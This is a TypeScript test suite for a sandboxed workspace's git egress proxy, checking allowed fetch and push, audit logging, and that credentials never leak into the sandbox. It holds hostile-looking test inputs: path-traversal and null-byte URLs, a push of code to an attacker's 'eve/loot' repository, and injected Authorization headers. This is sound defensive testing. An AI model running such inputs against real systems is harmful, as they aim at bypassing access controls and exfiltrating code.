import { readdirSync, readFileSync, readlinkSync, openSync, readSync, closeSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { GitRules } from '@gatehouse/core/access/egress.ts';
import { isolationMissing } from '../support/sandbox.ts';
import { makeGitServer } from '../support/git-server.ts';
import { startLimited } from '../support/limited.ts';
import { OutsideWorld } from '../support/outside-world.ts';

const isolation = isolationMissing() === null;
const HOST = 'git.example';
const SECRET = 'gH7-very-secret-0123456789';
const APP = `https://${HOST}/acme/app`;
const only = (fetch: string[], push: string[] = []): GitRules => ({ fetch: [...fetch, ...push], push });

/** A workspace, and a git server with repositories of its organisation and of somebody of their own. */
async function makeSite(git: GitRules, options: { password?: string; takes?: () => boolean } = {}) {
  const world = new OutsideWorld([HOST, 'elsewhere.example']);
  const server = makeGitServer(['acme/app', 'acme/other', 'eve/loot'], options.password ?? null);
  await world.host(HOST, '93.184.216.10', { https: server.serve });
  const workspace = await startLimited(world, { git }, options);
  return { world, server, ...workspace, workspace };
}

describe.runIf(isolation)('git in a workspace', () => {
  it('fetches what may be fetched, however its address is written, and each fetch is told once', async () => {
    const { run, told, server } = await makeSite(only([`https://${HOST}/acme/*`]));
    for (const [address, folder] of [
      [`${APP}.git`, 'a'],
      [APP, 'b'],
      [`git@${HOST}:acme/other.git`, 'c'],
      [`ssh://git@${HOST}/acme/other`, 'd'],
    ])
      expect(await run(`git clone -q ${address} ${folder} 2>&1 && git -C ${folder} log --format=%s`)).toMatch(/^first of acme/);
    expect(told.all).toEqual([
      { what: 'git-fetch', repository: APP, asPerson: false, status: 200 },
      { what: 'git-fetch', repository: `https://${HOST}/acme/other`, asPerson: false, status: 200 },
    ]);
    expect(server.asked.all.every(({ authorization }) => authorization === '')).toBe(true);
  }, 60_000);

  it('pushes where it may, and each push is told with its refs, old and new', async () => {
    const { run, told, server } = await makeSite(only([], [APP]));
    const before = server.head('acme/app');
    const commit = 'git commit -q --allow-empty -m second && git push -q origin main HEAD:refs/heads/next 2>&1';
    expect(await run(`git clone -q ${APP} app && cd app && ${commit}; git rev-parse HEAD`)).toBe(server.head('acme/app'));
    const after = server.head('acme/app');
    expect(after).not.toBe(before);
    expect(told.all.filter(({ what }) => what === 'git-push')).toEqual([
      {
        ...{ what: 'git-push', repository: APP, asPerson: false, status: 0, more: 0 },
        refs: [`${before.slice(0, 12)}→${after.slice(0, 12)} refs/heads/main`, `000000000000→${after.slice(0, 12)} refs/heads/next`],
      },
    ]);
  }, 60_000);

  it('does not push to a repository of one’s own, nor anywhere that may only be fetched from', async () => {
    const { run, told, server, notices } = await makeSite(only([APP]));
    await run(`git clone -q ${APP} app; git -C app commit -q --allow-empty -m loot`);
    const own = await run(`git -C app push https://me:token@${HOST}/eve/loot main:stolen 2>&1`);
    expect(own).toContain('403');
    expect(await run(`git -C app push origin main 2>&1`)).toContain('Blocked by your organisation’s egress policy');
    expect(server.head('eve/loot', 'stolen')).toBe('');
    const loot = `https://${HOST}/eve/loot`;
    expect(told.all.filter(({ what }) => what === 'git-refused')).toMatchObject([
      { service: 'other', why: 'only fetch and push over HTTPS are carried' },
      { repository: APP, service: 'push', why: 'it is not on the list of repositories to push to', count: 1 },
    ]);
    expect(await run(`git -C app push ${loot} main:stolen 2>&1`)).toContain(`repository ${loot}`);
    expect(notices.all.at(-1)).toContain(loot);
    expect(server.head('eve/loot', 'stolen')).toBe('');
    expect(server.asked.all.some(({ url }) => url.includes('eve') || url.includes('receive'))).toBe(false);
  }, 60_000);

  it('does not push what can’t be recorded', async () => {
    let full = false;
    const { run, server } = await makeSite(only([], [APP]), { takes: () => !full });
    await run(`git clone -q ${APP} app; git -C app commit -q --allow-empty -m second`);
    full = true;
    const before = server.head('acme/app');
    expect(await run('git -C app push origin main 2>&1; echo $?')).toMatch(/[1-9]\d*$/);
    expect(server.head('acme/app')).toBe(before);
  }, 60_000);

  const tricks: [string, string][] = [
    ['a path that climbs', `/https/${HOST}/acme/app/../../eve/loot/info/refs?service=git-upload-pack`],
    ['a path that climbs in code', `/https/${HOST}/acme/app/%2e%2e/%2e%2e/eve/loot/info/refs?service=git-upload-pack`],
    ['a name that ends the repository', `/https/${HOST}/acme/app%00/eve/info/refs?service=git-upload-pack`],
    ['another service', `/https/${HOST}/acme/app/info/refs?service=git-upload-archive`],
    ['two services', `/https/${HOST}/acme/app/info/refs?service=git-upload-pack&service=git-receive-pack`],
    ['a file of the old protocol', `/https/${HOST}/acme/app/objects/info/packs`],
    ['the old protocol', `/https/${HOST}/acme/app/info/refs`],
    ['a user in the address', `/https/x:y@${HOST}/acme/app/info/refs?service=git-upload-pack`],
    ['plain HTTP', `/http/${HOST}/acme/app/info/refs?service=git-upload-pack`],
    ['an address in numbers', '/https/93.184.216.10/acme/app/info/refs?service=git-upload-pack'],
    ['the service’s own API', `/https/${HOST}/api/v3/user`],
  ];
  it('is carried as git and as nothing else', async () => {
    const { run, server } = await makeSite(only([APP], [APP]));
    for (const [name, target] of tricks)
      expect(await run(`curl -sS --path-as-is -o /dev/null -w '%{http_code}' 'http://127.0.0.1:3129${target}'`), name).toBe('403');
    expect(server.asked.all).toEqual([]);
  }, 60_000);

  it('follows no redirect to another host, and one to another repository is looked at anew', async () => {
    const world = new OutsideWorld([HOST, 'elsewhere.example']);
    const server = makeGitServer(['acme/app', 'eve/loot']);
    const moved: Record<string, string> = {
      out: 'https://elsewhere.example/acme/app',
      own: `https://${HOST}/eve/loot`,
      old: `https://${HOST}/acme/app`,
    };
    await world.host(HOST, '93.184.216.10', {
      https: (request, response) => {
        const [, owner = '', name = '', ...rest] = (request.url ?? '').split('/');
        if (owner !== 'moved') return server.serve(request, response);
        response.writeHead(301, { Location: `${moved[name]}/${rest.join('/')}` }).end();
      },
    });
    await world.host('elsewhere.example', '93.184.216.20', { https: (_request, response) => response.end('reached') });
    const { run } = await startLimited(world, { git: only([`https://${HOST}/acme/*`, `https://${HOST}/moved/*`]) });
    const clone = (name: string) => run(`git clone -q https://${HOST}/moved/${name} ${name} 2>&1; git -C ${name} log --format=%s 2>&1`);
    expect(await clone('out')).toContain('403');
    expect(await clone('own')).toContain('403');
    expect(await clone('old')).toContain('first of acme/app');
    expect(world.asked.all).not.toContain('elsewhere.example');
  }, 60_000);
});

/** Every process of a sandbox, as the machine sees it. */
function processesOf(first: number): number[] {
  const namespaceOf = (pid: number) => {
    try {
      return readlinkSync(`/proc/${pid}/ns/pid`);
    } catch {
      return '';
    }
  };
  const own = namespaceOf(first);
  return readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name) && namespaceOf(Number(name)) === own)
    .map(Number);
}

/** Whether a text stands in what a process can read and write. */
function memoryHolds(pid: number, texts: readonly string[]): boolean {
  const maps = readFileSync(`/proc/${pid}/maps`, 'utf8').split('\n');
  const memory = openSync(`/proc/${pid}/mem`, 'r');
  try {
    return maps.some((line) => {
      const [, from = '', to = ''] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
      if (from === '') return false;
      const piece = Buffer.alloc(Math.min(Number.parseInt(to, 16) - Number.parseInt(from, 16), 256 * 1024 * 1024));
      try {
        readSync(memory, piece, 0, piece.length, Number.parseInt(from, 16));
      } catch {
        return false;
      }
      return texts.some((text) => piece.includes(text));
    });
  } finally {
    closeSync(memory);
  }
}

describe.runIf(isolation)('the person’s credential', () => {
  it('opens the server, and is nowhere inside: environment, files, memory, traffic', async () => {
    const { run, workspace, server, told, sandbox, folder } = await makeSite(only([], [APP]), { password: SECRET });
    workspace.credentials = [{ host: HOST, username: 'dev', secret: SECRET }];
    const trace = 'export GIT_TRACE=1 GIT_TRACE_CURL=1 GIT_TRACE_PACKET=1 GIT_TRACE_REDACT=0';
    const output = await run(
      `${trace}; git clone ${APP} app 2>&1; cd app; git commit -q --allow-empty -m second 2>&1; git push origin main 2>&1`,
    );
    expect(server.asked.all.every(({ authorization }) => authorization.startsWith('Basic '))).toBe(true);
    expect(told.all.map((each) => 'asPerson' in each && each.asPerson)).toEqual([true, true]);
    const basic = Buffer.from(`dev:${SECRET}`).toString('base64');
    for (const text of [SECRET, basic, basic.slice(4, -4)]) {
      expect(output).toContain('git-receive-pack');
      expect(output).not.toContain(text);
      expect(
        await run(
          `grep -rslF -e '${text.slice(0, 8)}''${text.slice(8)}' /home /etc /run /tmp /opt/gatehouse/helper.mjs; cat /proc/*/environ`,
        ),
      ).not.toContain(text);
    }
    const pids = processesOf(sandbox.trace.first.pid);
    expect(pids.length).toBeGreaterThan(1);
    if (process.getuid?.() === 0) {
      // The look itself is known to find what is there.
      await run(`sleep 300 > /dev/null 2>&1 & export MARK=here-it-is-${process.pid}; exec -a sleeper env sleep 301 > /dev/null 2>&1 &`);
      expect(processesOf(sandbox.trace.first.pid).some((pid) => memoryHolds(pid, [`here-it-is-${process.pid}`]))).toBe(true);
      for (const pid of pids) expect(memoryHolds(pid, [SECRET, basic])).toBe(false);
    }
    // Nor in what the runner keeps on disk for it.
    for (const name of readdirSync(folder, { recursive: true, encoding: 'utf8' }))
      try {
        expect(readFileSync(join(folder, name)).includes(SECRET)).toBe(false);
      } catch (error) {
        if (!(error instanceof Error && 'code' in error)) throw error;
      }
  }, 60_000);

  it('is asked for with words, and never typed in here', async () => {
    const { run, workspace } = await makeSite(only([APP]), { password: SECRET });
    expect(await run(`git clone -q ${APP} app 2>&1`)).toContain('Add a credential for it under Account, Git credentials');
    workspace.credentials = [{ host: HOST, username: 'dev', secret: 'wrong' }];
    expect(await run(`git clone -q ${APP} app 2>&1`)).toContain('does not take your credential');
  }, 60_000);

  it('does not go to another host, nor from inside to any', async () => {
    const { run, workspace, server } = await makeSite(only([APP]));
    workspace.credentials = [{ host: 'other.example', username: 'dev', secret: SECRET }];
    await run(`git -c http.extraHeader='Authorization: Basic c3RvbGVu' -c http.extraHeader='Cookie: a=b' clone -q ${APP} app`);
    expect(server.asked.all.length).toBeGreaterThan(1);
    expect(server.asked.all.every(({ authorization }) => authorization === '')).toBe(true);
  }, 60_000);
});
